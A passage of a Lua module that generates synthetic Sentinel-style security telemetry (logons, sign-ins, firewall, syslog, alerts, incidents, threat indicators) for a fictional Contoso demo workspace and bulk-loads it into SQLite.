  else
    local h = WIN_SERVERS[random(1, #WIN_SERVERS)]
    winlogon(ms, h, true, 5, "NT AUTHORITY\\SYSTEM", "SYSTEM", "S-1-5-18", "-", "-", "-", nil, false)
  end
end

local BAD_NAMES = { "administrator", "admin", "user", "test", "guest", "scanner", "sql", "backup", "support" }
local function bg_logon_fail(ms)
  if random() < 0.6 then
    local name = pick(BAD_NAMES)
    winlogon(ms, H["srv-web01"], false, 3, "CONTOSO\\" .. name, name, nil, scanner(), tostring(random(1024, 65535)), "-",
             name == "administrator" and "0xc000006a" or "0xc0000064", true)
  else
    local w = WORKSTATIONS[random(1, 40)]
    winlogon(ms, w, false, 2, w.user.account, w.user.sam, nil, "127.0.0.1", "0", w.name:upper(), "0xc000006a", false)
  end
end

local function bg_signin(ms)
  local u = USERS[random(1, #USERS)]
  local ip, loc = user_ip(u)
  local r = random()
  local result = r < 0.965 and "0" or (r < 0.99 and "50126" or "50074")
  local ua = UAS[random(1, #UAS)]
  signin(ms, u, ip, loc, result, APPS[random(1, #APPS)], ua == UA_IPHONE and "Mobile Apps and Desktop clients" or "Browser",
         ua, false)
end

local AUDIT_OPS = {
  { "Update user", "UserManagement", "Update", "Core Directory" },
  { "Add member to group", "GroupManagement", "Assign", "Core Directory" },
  { "User registered security info", "UserManagement", "Add", "Authentication Methods" },
  { "Reset password (self-service)", "UserManagement", "Update", "Self-service Password Management" },
  { "Add app role assignment to service principal", "ApplicationManagement", "Assign", "Core Directory" },
  { "Update application", "ApplicationManagement", "Update", "Core Directory" },
}
local function bg_audit(ms)
  local op = pick(AUDIT_OPS)
  local target = USERS[random(1, #USERS)]
  local initiator, identity
  if random() < 0.8 then
    local u = random() < 0.5 and pick(ADMINS) or target
    local ip = user_ip(u)
    initiator, identity = user_initiator(u, ip), u.display
  else
    initiator = jobj("app", raw(jobj("appId", NULL, "displayName", "Microsoft Substrate Management",
                                     "servicePrincipalId", stable_guid("sp:substrate"), "servicePrincipalName", NULL)))
    identity = "Microsoft Substrate Management"
  end
  audit(ms, op[1], op[2], op[3], op[4], initiator, identity,
        jarr({ raw(jobj("id", target.id, "displayName", NULL, "type", "User", "userPrincipalName", target.upn,
                        "modifiedProperties", raw("[]"))) }))
end

local FILES = { "Q3 forecast.xlsx", "Board deck.pptx", "Project Falcon.docx", "Onboarding.pdf", "Budget 2024.xlsx",
                "Architecture.vsdx", "Release notes.docx" }
local function bg_office(ms)
  local u = USERS[random(1, #USERS)]
  local ip = user_ip(u)
  local r = random()
  if r < 0.4 then
    office(ms, u, ip, "MailItemsAccessed", "ExchangeItemAggregated", "Exchange", nil, nil, nil, "Client=OutlookService;Outlook-Android/2.0;")
  elseif r < 0.5 then
    office(ms, u, ip, "Send", "ExchangeItem", "Exchange", nil, nil, nil, "Client=MSExchangeRPC")
  elseif r < 0.75 then
    local f = pick(FILES)
    office(ms, u, ip, "FileAccessed", "SharePointFileOperation", "SharePoint",
           "https://contoso.sharepoint.com/sites/finance/Shared Documents/" .. f, "https://contoso.sharepoint.com/sites/finance/", f)
  elseif r < 0.9 then
    local f = pick(FILES)
    local site = "https://contoso-my.sharepoint.com/personal/" .. u.sam:gsub("%.", "_") .. "_contoso_com/"
    office(ms, u, ip, "FileModified", "SharePointFileOperation", "OneDrive", site .. "Documents/" .. f, site, f)
  else
    office(ms, u, ip, "TeamsSessionStarted", "MicrosoftTeams", "MicrosoftTeams", nil, nil, nil)
  end
end

local AZ_OPS = {
  { "Create or Update Virtual Machine", "MICROSOFT.COMPUTE/VIRTUALMACHINES/WRITE", "Microsoft.Compute", "virtualMachines/vm-build01" },
  { "Start Virtual Machine", "MICROSOFT.COMPUTE/VIRTUALMACHINES/START/ACTION", "Microsoft.Compute", "virtualMachines/vm-build01" },
  { "List Storage Account Keys", "MICROSOFT.STORAGE/STORAGEACCOUNTS/LISTKEYS/ACTION", "Microsoft.Storage", "storageAccounts/contosodata" },
  { "Create or Update Security Rule", "MICROSOFT.NETWORK/NETWORKSECURITYGROUPS/SECURITYRULES/WRITE", "Microsoft.Network",
    "networkSecurityGroups/nsg-web/securityRules/allow-https" },
  { "Create Deployment", "MICROSOFT.RESOURCES/DEPLOYMENTS/WRITE", "Microsoft.Resources", "deployments/webapp-release" },
}
local function bg_azure(ms)
  local u = pick(ADMINS)
  local ip = user_ip(u)
  local op = pick(AZ_OPS)
  local r = random()
  local status = r < 0.45 and "Started" or (r < 0.97 and "Succeeded" or "Failed")
  local rid = "/subscriptions/" .. ORG.subscription .. "/resourceGroups/contoso-prod/providers/" .. op[3] .. "/" .. op[4]
  local t = iso(ms)
  E.AzureActivity(t, iso(math.min(S.now, ms + random(1, 5) * SEC)), ip, u.upn, op[1], op[2], "Administrative", status, status,
    status == "Failed" and "Error" or "Informational", rid, "CONTOSO-PROD", op[3]:upper(), ORG.subscription,
    jobj("clientRequestId", guid(), "clientIpAddress", ip, "method", "PUT"),
    jobj("eventCategory", "Administrative", "entity", rid, "message", op[2], "hierarchy",
         ORG.tenant .. "/" .. ORG.subscription),
    guid(), guid(), guid(), TENANT, "Azure", rid)
end

local function bg_syslog(ms)
  local h = LINUX[random(1, 2)]
  local r = random()
  if r < 0.35 then
    syslog(ms, h, "cron", "info", "CRON", random(2000, 60000), "pam_unix(cron:session): session opened for user root(uid=0) by (uid=0)")
  elseif r < 0.5 then
    local a = pick(LINUX_ADMINS)
    syslog(ms, h, "auth", "info", "sshd", random(2000, 60000),
      fmt("Accepted publickey for %s from %s port %d ssh2: ED25519 SHA256:%s", a.name, a.from.ip, eph(),
          stable_hex("key:" .. a.name, 43)))
  elseif r < 0.6 then
    local a = pick(LINUX_ADMINS)
    syslog(ms, h, "authpriv", "info", "sshd", random(2000, 60000),
      fmt("pam_unix(sshd:session): session opened for user %s(uid=%d) by (uid=0)", a.name, a.uid))
  elseif r < 0.7 then
    local a = pick(LINUX_ADMINS)
    syslog(ms, h, "authpriv", "notice", "sudo", random(2000, 60000),
      fmt("%s : TTY=pts/0 ; PWD=/home/%s ; USER=root ; COMMAND=/usr/bin/systemctl restart nginx", a.name, a.name))
  elseif r < 0.9 then
    local name = pick(BAD_NAMES)
    syslog(ms, h, "auth", "info", "sshd", random(2000, 60000),
      fmt("Failed password for invalid user %s from %s port %d ssh2", name, scanner(), random(1024, 65535)))
  else
    syslog(ms, h, "auth", "info", "sshd", random(2000, 60000),
      fmt("Invalid user %s from %s port %d", pick(BAD_NAMES), scanner(), random(1024, 65535)))
  end
end

local BA_INSIGHTS = jobj("FirstTimeUserConnectedFromCountry", false, "FirstTimeUserConnectedViaISP", false,
                         "FirstTimeUserAccessedResource", false, "ActionUncommonlyPerformedByUser", false)
local function bg_behavior(ms)
  local u = USERS[random(1, #USERS)]
  local ip, loc = user_ip(u)
  local prio = random() < 0.9 and 0 or random(1, 6)
  local t = iso(ms)
  E.BehaviorAnalytics(t, iso(math.min(S.now, ms + random(60, 900) * SEC)), ip, loc.cc == "US" and "United States" or loc.cc,
    u.index <= 40 and WORKSTATIONS[u.index].name or nil, u.sam, u.upn, "LogOn", "Sign-in", "Azure AD", prio,
    prio > 0 and jobj("FirstTimeUserConnectedFromCountry", false, "FirstTimeUserConnectedViaISP", true,
                      "FirstTimeUserAccessedResource", false, "ActionUncommonlyPerformedByUser", false) or BA_INSIGHTS,
    jobj("AccountObjectID", u.id, "IsDormantAccount", false, "IsNewAccount", false),
    jobj("Browser", "Edge", "OSFamily", "Windows"), guid(), TENANT, nil)
end

local function bg_anomaly(ms)
  local ip = skewed(S.scan)
  local u = USERS[random(1, #USERS)]
  anomaly(ms, "Attempted user account brute force", "Attempted user account brute force", ip, nil, nil, u,
    floor(random() * 60 + 30) / 100, "Failed sign-ins for " .. u.upn .. " from " .. ip, "CredentialAccess", "T1110",
    jarr({ raw(jobj("$id", "1", "Address", ip, "Type", "ip")) }),
    jarr({ raw(jobj("Name", "FailedSignInCount", "IsAnomalous", true)) }), nil)
end

local BG_ALERTS = {
  { "Multiple RDP connection attempts from a single source", "Low", "InitialAccess", "T1133" },
  { "Brute force attack against a web server", "Medium", "CredentialAccess", "T1110" },
  { "SSH brute force from a rare IP", "Low", "CredentialAccess", "T1110.001" },
  { "Sign-in from an unfamiliar location", "Low", "InitialAccess", "T1078" },
}
local NEXT_ALERT_STATUS = { New = "InProgress", InProgress = "Resolved" }

local function bg_alert(ms)
  local open = S.open_alerts
  if #open > 0 and random() < 0.4 then
    local i = random(1, #open)
    local a = open[i]
    a.status = NEXT_ALERT_STATUS[a.status]
    alert(ms, a)
    if a.status == "Resolved" then open[i] = open[#open]; open[#open] = nil end
    return
  end
  local kind = pick(BG_ALERTS)
  local ip = skewed(S.scan)
  local target = kind[1]:find("Sign%-in") and USERS[random(1, #USERS)] or nil
  local ents = { { ip = ip } }
  if target then ents[2] = { user = target } else ents[2] = { host = kind[1]:find("SSH") and "srv-lnx01" or "srv-web01" } end
  local a = { id = guid(), vendor_id = guid(), name = kind[1], severity = kind[2], status = "New",
              description = kind[1] .. " (source " .. ip .. ")", type = stable_guid("rule:" .. kind[1]),
              start = ms - HOUR, ["end"] = ms - 5 * MIN, compromised = ents[2].host or "",
              entities = entities(ents), extended = jobj("Query Period", "01:00:00", "Total IP Entities", "1"),
              tactics = kind[3], techniques = jarr({ kind[4] }) }
  alert(ms, a)
  open[#open + 1] = a
  S.pending[#S.pending + 1] = a
end

local CLASSES = { { "TruePositive", "SuspiciousActivity" }, { "BenignPositive", "SuspiciousButExpected" },
                  { "FalsePositive", "IncorrectAlertLogic" } }
local function bg_incident(ms)
  local open = S.open_incidents
  local pending = S.pending
  if #open > 0 and (#pending == 0 or random() < 0.5) then
    local i = random(1, #open)
    local inc = open[i]
    if inc.status == "New" then inc.status, inc.owner = "Active", pick(ADMINS)
    else
      local c = pick(CLASSES)
      inc.status, inc.classification, inc.reason, inc.comment = "Closed", c[1], c[2], "Reviewed by the SOC"
      open[i] = open[#open]; open[#open] = nil
    end
    inc.last = ms
    incident(ms, inc)
    return
  end
  local a = table.remove(pending, 1)
  S.incident_number = S.incident_number + 1
  local inc = { number = S.incident_number, name = guid(), title = a and a.name or "Manual investigation",
                description = a and a.description or "Opened by an analyst", severity = a and a.severity or "Informational",
                status = "New", created = ms, first = a and a.start or ms - HOUR, last = ms, alerts = { a and a.id or nil },
                rules = { a and a.type or nil }, tactics = { a and a.tactics or nil }, techniques = {} }
  incident(ms, inc)
  open[#open + 1] = inc
end

local TI_TYPES = { "Botnet", "Botnet", "Botnet", "C2", "MaliciousActivity" }
local function bg_indicator(ms)
  local inds = S.indicators
  if #inds > 0 and random() < 0.3 then
    local ind = inds[random(1, #inds)]
    ind.confidence = math.min(100, ind.confidence + random(-10, 15))
    if random() < 0.2 then ind.active = false end
    indicator(ms, ind)
    return
  end
  local provider = pick(PROVIDERS)
  local ip = random() < 0.7 and skewed(S.scan) or rand_public()
  local ind = { id = rand_hex(64):upper(), external = provider:lower():gsub("%W", "") .. ":" .. ip, ip = ip,
                provider = provider, active = true, severity = random(1, 5), confidence = random(30, 90),
                type = pick(TI_TYPES), description = provider .. " reputation: malicious", tags = "[]",
                tlp = random() < 0.5 and "green" or "amber", malware = "[]", expires = ms + random(1, 30) * DAY }
  indicator(ms, ind)
  inds[#inds + 1] = ind
end

local function bg_bookmark(ms)
  local ip = skewed(S.scan)
  local who = pick(ADMINS)
  local t = iso(ms)
  E.HuntingBookmark(t, t, t, iso(ms - 2 * HOUR), iso(ms - DAY), t, guid(), "Scanner " .. ip,
    jobj("TimeGenerated", iso(ms - 2 * HOUR), "SourceIP", ip, "DestinationPort", 3389, "DeviceAction", "deny",
         "__entityMapping", raw(jobj(ip, "IP"))),
    jarr({ raw(jobj("$id", "1", "Address", ip, "Type", "ip")) }),
    "CommonSecurityLog\n| where SourceIP == \"" .. ip .. "\"", "Repeated RDP probes", "scanner",
    jobj("ObjectId", who.id, "Email", who.upn, "Name", who.display),
    jobj("ObjectId", who.id, "Email", who.upn, "Name", who.display), 0, TENANT)
end

-- Share of the random background events (the periodic tables are separate).
local MIX = {
  { bg_fw_out, 0.30 }, { bg_dne_out, 0.22 }, { bg_fw_in_deny, 0.08 }, { bg_dne_client, 0.06 },
  { bg_dne_server, 0.05 }, { bg_logon_ok, 0.05 }, { bg_fw_internal, 0.04 }, { bg_signin, 0.04 },
  { bg_fw_in_web, 0.03 }, { bg_office, 0.03 }, { bg_syslog, 0.03 }, { bg_fw_dns, 0.02 },
  { bg_logon_fail, 0.01 }, { bg_behavior, 0.01 }, { bg_audit, 0.008 }, { bg_azure, 0.008 },
  { bg_indicator, 0.001 }, { bg_anomaly, 0.0006 }, { bg_alert, 0.0004 }, { bg_incident, 0.0002 },
  { bg_bookmark, 0.00005 },
}
local MIX_FN, MIX_CUM = {}, {}
do
  local total = 0
  for _, m in ipairs(MIX) do total = total + m[2] end
  local acc = 0
  for i, m in ipairs(MIX) do acc = acc + m[2] / total; MIX_FN[i], MIX_CUM[i] = m[1], acc end
  MIX_CUM[#MIX_CUM] = 2   -- guards against rounding
end

-- Hourly weight in Contoso's office time (UTC-8): busy working hours on weekdays.
local function hour_weight(ms)
  local local_ms = ms - 8 * HOUR
  local hour = floor(local_ms / HOUR) % 24
  local weekday = (floor(local_ms / DAY) + 4) % 7   -- 0 = Sunday (1970-01-01 was a Thursday)
  local w
  if hour >= 8 and hour < 18 then w = 1.0 elseif hour >= 6 and hour < 22 then w = 0.35 else w = 0.12 end
  if weekday == 0 or weekday == 6 then w = w * 0.3 end
  return w
end

-- Spread R events over the 336 hours before now (largest-remainder rounding).
local function hour_counts(N, R)
  local n = SPAN / HOUR
  local start = N - SPAN
  local w, total = {}, 0
  for i = 1, n do
    w[i] = hour_weight(start + (i - 1) * HOUR)
    total = total + w[i]
  end
  w[n] = math.max(w[n], 1.0); total = 0
  for i = 1, n do total = total + w[i] end
  local counts, rest, used = {}, {}, 0
  for i = 1, n do
    local exact = R * w[i] / total
    counts[i] = floor(exact)
    rest[i] = i
    w[i] = exact - counts[i]
    used = used + counts[i]
  end
  table.sort(rest, function(a, b) if w[a] ~= w[b] then return w[a] > w[b] end return a < b end)
  for k = 1, R - used do counts[rest[k]] = counts[rest[k]] + 1 end
  return counts
end

local function run_periodic(N, per_host, writer)
  if per_host == 0 then return 0 end
  local interval = floor(SPAN / per_host)
  for _, h in ipairs(HOSTS) do
    local phase = random(0, interval - 5 * SEC)
    local base = N - SPAN + phase
    for k = 0, per_host - 1 do writer(base + k * interval + random(0, 2000), h) end
  end
  return interval
end

local function run_background(N, R)
  local counts = hour_counts(N, R)
  local start = N - SPAN
  local fns, cum = MIX_FN, MIX_CUM
  for i = 1, #counts do
    local c = counts[i]
    if c > 0 then
      local bstart = start + (i - 1) * HOUR
      local step = HOUR / c
      for j = 0, c - 1 do
        local ms = bstart + floor((j + random()) * step)
        local r, k = random(), 1
        while r > cum[k] do k = k + 1 end
        fns[k](ms)
      end
    end
  end
end

---------------------------------------------------------------------------
-- build
---------------------------------------------------------------------------
local function count_story_rows(N)
  local n = 0
  local saved_E, saved_S = E, S
  E = setmetatable({}, { __index = function() return function() n = n + 1 end end })
  S = { report = 0, now = N }
  local ok, err = pcall(run_stories, N)
  E, S = saved_E, saved_S
  if not ok then error(err, 0) end
  return n
end

-- Number of rows the stories write (the same for any seed and events).
-- Note: it draws from math.random, like build() does.
function M.story_rows() return count_story_rows(30 * DAY) end

-- The smallest `events` build() accepts: the stories plus one Heartbeat and
-- one DeviceInfo row per host.
function M.minimum_events() return M.story_rows() + 2 * #HOSTS end

local function check_opts(db, opts)
  if db == nil then error("demo.build needs an open workspace connection", 0) end
  if opts ~= nil and type(opts) ~= "table" then error("demo.build options must be a table, got " .. type(opts), 0) end
  opts = opts or {}
  local events, seed, now = opts.events or 100000, opts.seed or 1, opts.now
  if type(events) ~= "number" or events < 1 or events % 1 ~= 0 then
    error("demo events must be a positive whole number, got " .. tostring(events), 0)
  end
  if type(seed) ~= "number" or seed % 1 ~= 0 then error("demo seed must be a whole number, got " .. tostring(seed), 0) end
  if now == nil then error("demo.build needs opts.now, the current time in epoch seconds", 0) end
  if type(now) ~= "number" or now < SPAN / SEC or now ~= now then
    error("demo now must be epoch seconds after 1970-01-15, got " .. tostring(now), 0)
  end
  if opts.progress ~= nil and type(opts.progress) ~= "function" then
    error("demo progress must be a function, got " .. type(opts.progress), 0)
  end
  return events, seed, floor(now * 1000), opts.progress
end

local function check_empty(db)
  for _, t in ipairs(schema.tables) do
    local rows = db:query("SELECT 1 FROM " .. t.name .. " LIMIT 1")
    if #rows > 0 then error("demo needs an empty workspace, but " .. t.name .. " already has rows", 0) end
  end
end

local function sql_literal(v)
  if type(v) == "number" then return fmt("%.17g", v) end
  return "'" .. v:gsub("'", "''") .. "'"
end

-- INSERT text for a COLS list: "?" for bound columns, literals for lit() ones.
local function writer_sql(name, cols)
  local names, marks = {}, {}
  for i, c in ipairs(cols) do
    if type(c) == "string" then names[i], marks[i] = c, "?"
    else names[i], marks[i] = c.name, sql_literal(c.value) end
  end
  schema.insert_sql(name, names)   -- validates table and columns
  return "INSERT INTO " .. name .. " (" .. concat(names, ",") .. ") VALUES (" .. concat(marks, ",") .. ")"
end
M.writer_sql = writer_sql

local function make_writers(db, counts, total, progress)
  local writers = {}
  local done, step = 0, math.max(1, floor(total / 100))
  local next_tick = step
  for name, cols in pairs(COLS) do
    local st = db:prepare(writer_sql(name, cols))
    counts[name] = 0
    writers[name] = function(...)
      st:run(...)
      counts[name] = counts[name] + 1
      done = done + 1
      if progress and done >= next_tick and done < total then
        progress(done, total)
        next_tick = next_tick + step
      end
    end
  end
  return writers
end

-- Indexes are dropped for the bulk load and built afterwards (much faster
-- than maintaining them row by row); all inside the one transaction.
local function existing_indexes(db)
  local present = {}
  for _, row in ipairs(db:query("SELECT name FROM sqlite_master WHERE type = 'index'")) do present[row[1]] = true end
  local list = {}
  for _, ix in ipairs(schema.index_ddl()) do if present[ix.name] then list[#list + 1] = ix end end
  return list
end

local function has_rollup(db)
  return db:query("SELECT count(*) FROM sqlite_master WHERE type = 'table' AND name = '_ipe_ip_activity'")[1][1] > 0
end

---------------------------------------------------------------------------
-- The demo marker: a demo workspace says so in _ipe_meta, with the rows it was
-- built with, so that `ipe-run demo` replaces a demo workspace freely and never
-- one that holds anything else (a real workspace, or a demo one with data added).
---------------------------------------------------------------------------
M.MARK_KEY = "demo"
M.GEO_KEY = "demo_geo"
-- ipe's own tables whose rows are the user's (ingests, audited actions, IP ranges).
local OWN_TABLES = { "_ipe_ingest", "_ipe_audit", "_ipe_ip_ranges" }

-- fingerprint(db) -> "Table=count,..." over the Sentinel tables and OWN_TABLES that exist.
function M.fingerprint(db)
  local present = {}
  for _, row in ipairs(db:query("SELECT name FROM sqlite_master WHERE type = 'table'")) do present[row[1]] = true end
  local names = {}
  for _, t in ipairs(schema.tables) do names[#names + 1] = t.name end
  for _, t in ipairs(OWN_TABLES) do names[#names + 1] = t end
  table.sort(names)
  local parts = {}
  for _, name in ipairs(names) do
    if present[name] then parts[#parts + 1] = name .. "=" .. db:query("SELECT count(*) FROM " .. name)[1][1] end
  end
  return concat(parts, ",")
end

-- mark(db, info, geo_files): record that db is a demo workspace (info: a short text, e.g. the
-- seed and events) with its rows as they are now, and the bundled geo databases that belong to
-- it (a list of file names in the demo geo folder; nil = none; ipe.geo reads them back).
function M.mark(db, info, geo_files)
  local set = db:prepare("INSERT OR REPLACE INTO _ipe_meta (key, value) VALUES (?, ?)")
  set:run(M.MARK_KEY, info .. "; rows " .. M.fingerprint(db))
  if geo_files and #geo_files > 0 then set:run(M.GEO_KEY, concat(geo_files, ":")) end
end

local function meta_value(db, key)
  local ok, rows = pcall(db.query, db, "SELECT value FROM _ipe_meta WHERE key = :k", { k = key })
  return ok and rows[1] and rows[1][1] or nil
end

-- is_demo(db) -> true | false, why: a demo workspace whose rows are still those it was built with.
function M.is_demo(db)
  local mark = meta_value(db, M.MARK_KEY)
  if not mark then return false, "not a demo workspace" end
  local rows = mark:match("; rows (.*)$")
  if rows ~= M.fingerprint(db) then return false, "a demo workspace with data added or removed since it was built" end
  return true
end

function M.build(db, opts)
  local events, seed, N, progress = check_opts(db, opts)
  math.randomseed(seed)
  local story = count_story_rows(N)
  local hosts = #HOSTS
  local minimum = story + 2 * hosts   -- = M.minimum_events()
  if events < minimum then error(fmt("demo needs at least %d events, got %d", minimum, events), 0) end
  check_empty(db)

  local B = events - story
  local hb_per_host = math.min(floor(SPAN / (5 * MIN)), math.max(1, floor(B * 0.10 / hosts)))
  local di_per_host = math.min(floor(SPAN / HOUR), math.max(1, floor(B * 0.01 / hosts)))
  local R = B - hosts * (hb_per_host + di_per_host)

  local counts = {}
  local state = { report = 0, now = N }
  local cache = db:query("PRAGMA cache_size")[1][1]
  db:exec("PRAGMA cache_size=-262144")
  local ok, err = pcall(schema.atomically, db, "ipe_demo", function()
    local indexes = existing_indexes(db)
    for _, ix in ipairs(indexes) do db:exec("DROP INDEX " .. ix.name) end
    -- the per-IP rollups are built once at the end, not by triggers row by row
    local rollup = has_rollup(db) and require("ipe.rollup.sqlite")
    if rollup then rollup.bulk_begin(db) end
    E = make_writers(db, counts, events, progress)
    S = state
    math.randomseed(seed)
    run_stories(N)
    S.dst, S.scan, S.home = make_pools()
    S.open_alerts, S.pending, S.open_incidents, S.incident_number, S.indicators = {}, {}, {}, 100, {}
    S.hb_interval = run_periodic(N, hb_per_host, heartbeat)
    S.di_interval = run_periodic(N, di_per_host, device_info)
    run_background(N, R)
    for _, ix in ipairs(indexes) do db:exec(ix.sql) end
    if rollup then rollup.bulk_end(db) end
  end)
  E, S = nil, nil
  db:exec("PRAGMA cache_size=" .. tostring(cache))
  if not ok then error(err, 0) end
  if progress then progress(events, events) end
  return { rows = counts, stories = M.STORIES, story_rows = story, background_rows = B,
           heartbeat_interval = state.hb_interval / SEC, deviceinfo_interval = state.di_interval / SEC }
end

return M
